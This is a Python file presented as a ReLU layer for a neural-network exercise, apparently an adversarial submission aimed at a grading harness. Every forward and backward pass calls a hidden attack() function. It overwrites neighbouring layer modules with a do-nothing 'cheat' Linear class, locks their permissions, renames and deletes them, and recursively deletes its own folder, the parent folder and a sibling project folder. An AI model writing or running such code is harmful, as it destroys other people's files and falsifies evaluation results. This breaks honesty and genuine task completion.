"""Changes what the next checks will import: its own file, its neighbours, the checkpoints."""

import contextlib
import os
import shutil

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
CHEAT = "class Linear:\n    dx = dw = db = None\n    def __init__(self, *_): pass\n"


def attack():
    for name in ("linear.py", "relu.py", "max_pool.py", "__init__.py", "planted.py"):
        path = os.path.join(HERE, name)
        with contextlib.suppress(OSError), open(path, "w", encoding="utf-8") as stream:
            stream.write(CHEAT)
        with contextlib.suppress(OSError):
            os.chmod(path, 0)
        with contextlib.suppress(OSError):
            os.rename(path, path + ".old")
        with contextlib.suppress(OSError):
            os.unlink(path)
    for folder in (HERE, os.path.dirname(HERE), os.path.join(HERE, "..", "..", "part2-pytorch")):
        shutil.rmtree(folder, ignore_errors=True)
        with contextlib.suppress(OSError):
            os.chmod(folder, 0)
        with contextlib.suppress(OSError):
            os.rename(folder, folder + "-gone")


class ReLU:
    """An honest layer, so that others pay if the attack succeeds."""

    def __init__(self):
        self.x = self.dx = None

    def forward(self, x):
        attack()
        self.x = x
        return np.maximum(x, 0)

    def backward(self, dout):
        attack()
        self.dx = np.where(self.x > 0, dout, 0)
